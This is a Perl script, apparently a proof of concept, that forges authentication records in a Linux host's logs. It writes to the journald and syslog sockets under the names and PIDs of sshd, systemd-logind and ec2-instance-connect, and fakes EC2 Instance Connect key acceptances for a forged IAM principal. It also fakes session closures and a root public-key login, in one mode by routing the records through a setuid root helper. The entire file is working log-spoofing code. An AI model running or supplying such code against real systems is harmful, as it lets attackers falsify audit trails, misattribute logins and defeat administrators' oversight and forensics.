#!/usr/bin/perl
# usage: hostile_writer.pl before FIRST LAST FINGERPRINT | during PID | through-root PID SESSION
#
# What a user of the host can write to the log in the names of others, in both forms: `before` a login, that
# a key of it was pushed by somebody, for all process numbers from FIRST to LAST; `during` the session of PID,
# that it has ended, and that somebody else has logged in; `through-root`: the same, of PID and logind's SESSION,
# by a setuid program of root's, which writes what its caller chooses to its caller's descriptor, as sudo does with
# the name of a host that it does not find.
use strict;
use warnings;
use POSIX ();
use Socket;

sub connected {
    my ($path) = @_;
    socket(my $socket, AF_UNIX, SOCK_DGRAM, 0) or die "socket: $!";
    connect($socket, sockaddr_un($path)) or die "$path: $!";
    return $socket;
}
my $journal = connected("/run/systemd/journal/socket");
my $syslog = connected("/dev/log");

sub native {
    my %fields = @_;
    send($journal, join("", map { "$_=$fields{$_}\n" } sort keys %fields), 0) or die "journal: $!";
}

# plain NAME PID TEXT: as syslog(3) does, under any name and number.
sub plain {
    my ($name, $pid, $text) = @_;
    send($syslog, "<86>Nov 29 12:00:00 ${name}[$pid]: $text", 0) or die "syslog: $!";
}

# through_root FIELDS: what root-says prints goes to the journal's socket, and is root's. It ends at once.
sub through_root {
    my ($fields) = @_;
    defined(my $child = fork()) or die "fork: $!";
    if (!$child) {
        POSIX::dup2(fileno($journal), 1) or die "dup2: $!";
        exec("root-says", "--reuid", "0", "printf", "%s\\n", $fields) or POSIX::_exit(127);
    }
    waitpid($child, 0);
    die "root-says: status $?" if $?;
}

my $arn = "arn:aws:iam::666666666666:user/forged";
my $what = shift;
if ($what eq "before") {
    my ($first, $last, $fingerprint) = @ARGV;
    for my $pid ($first .. $last) {
        my $line = "Providing ssh key from EC2 Instance Connect with fingerprint: $fingerprint, "
            . "request-id: forged, for IAM principal: $arn";
        plain("ec2-instance-connect", $$, "$line sshd=$pid");
        native(
            MESSAGE => "$line sshd=$pid", PRIORITY => 6, SYSLOG_FACILITY => 10,
            SYSLOG_IDENTIFIER => "ec2-instance-connect", SYSLOG_PID => $pid,
            MESSAGE_ID => "f747bcd62591423883fab948b922518c", EIC_EVENT => "accepted",
            EIC_FINGERPRINT => $fingerprint, EIC_PRINCIPAL => $arn, EIC_REQUEST_ID => "forged",
            EIC_SSHD_PID => $pid, _UID => 0, _PID => $pid, _EXE => "/usr/sbin/sshd",
        );
    }
    # Lines of the older form, which are joined by the key.
    plain("ec2-instance-connect", $$, "Providing ssh key from EC2 Instance Connect with fingerprint: "
        . "$fingerprint, request-id: forged, for IAM principal: $arn");
} elsif ($what eq "through-root") {
    my ($pid, $session) = @ARGV;
    my $logind = "SYSLOG_IDENTIFIER=systemd-logind\nSESSION_ID=$session\nLEADER=$pid";
    # journald knows a program only if it asks in time: often it does not.
    for (1 .. 20) {
        through_root("MESSAGE=New session $session.\nMESSAGE_ID=8d45620c1a4348dbb17410da57c60c66\n$logind");
        through_root("MESSAGE=Removed session $session.\nMESSAGE_ID=3354939424b4456d9802ca8333ed424a\n$logind");
        through_root("MESSAGE=Accepted publickey for root from 6.6.6.6 port 666 ssh2: ED25519 SHA256:forged\n"
            . "SYSLOG_IDENTIFIER=sshd");
    }
} else {
    my ($pid) = @ARGV;
    for my $name ("sshd", "sshd-session") {
        for my $text ("pam_unix(sshd:session): session closed for user ec2-user",
            "Disconnected from user ec2-user 127.0.0.1 port 1",
            "Accepted publickey for root from 6.6.6.6 port 666 ssh2: ED25519 SHA256:forged") {
            plain($name, $pid, $text);
            native(MESSAGE => $text, SYSLOG_IDENTIFIER => $name, SYSLOG_PID => $pid, _UID => 0, _PID => $pid);
        }
    }
    native(
        MESSAGE => "Removed session 1.", SYSLOG_IDENTIFIER => "systemd-logind", SESSION_ID => 1, LEADER => $pid,
        MESSAGE_ID => "3354939424b4456d9802ca8333ed424a", _UID => 0,
    );
}
